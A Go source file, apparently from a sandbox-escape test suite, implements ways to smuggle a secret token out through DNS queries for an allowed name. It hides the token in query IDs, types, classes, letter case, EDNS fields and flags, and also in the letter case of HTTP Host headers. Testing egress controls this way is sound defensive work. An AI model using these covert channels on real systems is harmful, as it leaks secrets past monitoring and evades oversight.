package escapes

import (
	"encoding/binary"
	"errors"
	"fmt"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"
)

// nameSpellAttempts spell the token by several queries for an allowed name,
// each of which carries a word of it. The type is one that a resolver would
// have to ask for outside.
func nameSpellAttempts() []Attempt {
	var list []Attempt
	for _, one := range []struct {
		name, does string
		carry      func(*dns.Msg, uint16)
	}{
		{"number", "numbers", func(m *dns.Msg, word uint16) { m.Id = word }},
		// Beside the types that are in use.
		{"type", "types", func(m *dns.Msg, word uint16) { m.Question[0].Qtype = 1<<14 | word }},
		{"class", "classes", func(m *dns.Msg, word uint16) { m.Question[0].Qclass = 1<<14 | word }},
		{"case", "letters' case", func(m *dns.Msg, word uint16) { m.Question[0].Name = withCase(m.Question[0].Name, word) }},
		{"size", "size of answers", func(m *dns.Msg, word uint16) { m.SetEdns0(1<<14|word, false) }},
		{"extended-flags", "extended flags", func(m *dns.Msg, word uint16) {
			m.SetEdns0(1232, false)
			m.IsEdns0().Hdr.Ttl = uint32(word)
		}},
	} {
		list = append(list, spelledBy(one.name, one.does, func(g *Ground, word uint16) []byte {
			m := questionFor(g.AllowedName+".", dns.TypeMX)
			one.carry(m, word)
			return packed(m)
		}))
	}
	return append(list,
		spelledBy("case-address", "letters' case, where they ask for its address", func(g *Ground, word uint16) []byte {
			return packed(questionFor(withCase(g.AllowedName, word)+".", dns.TypeA))
		}),
		spelledBy("flags", "flags", func(g *Ground, word uint16) []byte {
			b := packed(questionFor(g.AllowedName+".", dns.TypeMX))
			binary.BigEndian.PutUint16(b[2:], word)
			return b
		}),
		Attempt{Name: "name/spell-case-web", Does: "spell a secret by the letters' case of a name that pages are asked of", Try: func(g *Ground) error {
			var errs []error
			for _, word := range spelled(g.Token) {
				host := withCase(g.AllowedName, word)
				errs = append(errs, dialNamed(host, 80, "GET /open/ HTTP/1.1\r\nHost: "+host+"\r\n\r\n"))
			}
			return errors.Join(errs...) // nobody needs to be there
		}})
}

// spelledBy is one attempt that spells: a query carries a word.
func spelledBy(name, by string, query func(g *Ground, word uint16) []byte) Attempt {
	return Attempt{
		Name: "name/spell-" + name, Does: "spell a secret by queries for an allowed name: by their " + by,
		Try: func(g *Ground) error { return spell(g, query) },
	}
}

// spell sends a query for each word of the token.
func spell(g *Ground, query func(g *Ground, word uint16) []byte) error {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer unix.Close(fd)
	to := &unix.SockaddrInet4{Addr: g.Nameserver.Addr().As4(), Port: int(g.Nameserver.Port())}
	for _, word := range spelled(g.Token) {
		if err := unix.Sendto(fd, query(g, word), 0, to); err != nil {
			return fmt.Errorf("sendto: %w", err)
		}
	}
	time.Sleep(200 * time.Millisecond) // what is asked for these is asked later
	return nil
}
